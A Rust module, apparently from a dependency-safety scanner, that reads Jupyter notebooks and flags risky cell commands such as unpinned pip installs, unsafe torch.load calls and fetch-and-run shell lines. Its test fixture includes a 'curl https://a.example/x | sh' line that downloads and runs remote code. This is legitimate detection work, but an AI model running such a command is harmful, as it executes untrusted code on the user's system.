//! Jupyter notebooks: the code of their cells, and the commands in them.

use serde::Deserialize;

use super::{code, install};
use crate::remark::{Remark, Weight};

/// Bytes of a notebook that are read.
pub const NOTEBOOK_BYTES_MAX: usize = 64 << 20;
/// Cells of a notebook.
pub const CELLS_MAX: usize = 20_000;

#[derive(Deserialize)]
struct Notebook {
    #[serde(default)]
    cells: Vec<Cell>,
}

#[derive(Deserialize)]
struct Cell {
    cell_type: String,
    #[serde(default)]
    source: Source,
}

#[derive(Deserialize)]
#[serde(untagged)]
enum Source {
    One(String),
    Lines(Vec<String>),
}

impl Default for Source {
    fn default() -> Self {
        Self::One(String::new())
    }
}

/// What is to be said of a notebook; `at` is the cell, from 1.
pub fn notebook(bytes: &[u8]) -> Vec<Remark> {
    let unknown = |why: String| {
        vec![Remark::new("deps.notebook", Weight::Unknown, 0, why, "", "look at it by hand")]
    };
    if bytes.len() > NOTEBOOK_BYTES_MAX {
        return unknown("the notebook is too long, and was not read".to_owned());
    }
    let notebook: Notebook = match serde_json::from_slice(bytes) {
        Ok(notebook) => notebook,
        Err(error) => return unknown(format!("the notebook cannot be read: {error}")),
    };
    let mut remarks = Vec::new();
    for (at, cell) in notebook.cells.iter().take(CELLS_MAX).enumerate() {
        if cell.cell_type != "code" {
            continue;
        }
        let text = match &cell.source {
            Source::One(text) => text.clone(),
            Source::Lines(lines) => lines.concat(),
        };
        let command = |line: &str| {
            let line = line.trim_start();
            line.strip_prefix('!').or_else(|| line.strip_prefix('%')).map(str::to_owned)
        };
        let commands: Vec<String> = text.lines().filter_map(command).collect();
        let python: Vec<&str> = text.lines().filter(|line| command(line).is_none()).collect();
        let mut found = code::code(&python.join("\n"));
        if text.starts_with("%%bash") || text.starts_with("%%sh") {
            found = text.lines().skip(1).flat_map(install::command).collect();
        }
        found.extend(commands.iter().flat_map(|command| install::command(command)));
        for remark in &mut found {
            remark.at = at + 1;
        }
        remarks.extend(found);
    }
    remarks
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(cells: &serde_json::Value) -> Vec<(&'static str, usize)> {
        let bytes = serde_json::to_vec(&serde_json::json!({"cells": cells})).unwrap();
        notebook(&bytes).into_iter().map(|remark| (remark.rule, remark.at)).collect()
    }

    #[test]
    fn code_and_commands_are_told_by_cell() {
        let cells = serde_json::json!([
            {"cell_type": "markdown", "source": "torch.load('x')"},
            {"cell_type": "code", "source": ["!pip install torch\n", "import torch\n"]},
            {"cell_type": "code", "source": "m = torch.load('x')"},
            {"cell_type": "code", "source": "%%bash\ncurl https://a.example/x | sh"},
        ]);
        assert_eq!(
            rules(&cells),
            [("deps.unpinned", 2), ("deps.unsafe_load", 3), ("deps.fetch_and_run", 4)]
        );
    }

    #[test]
    fn a_broken_notebook_is_unknown() {
        assert_eq!(notebook(b"{")[0].weight, Weight::Unknown);
    }
}
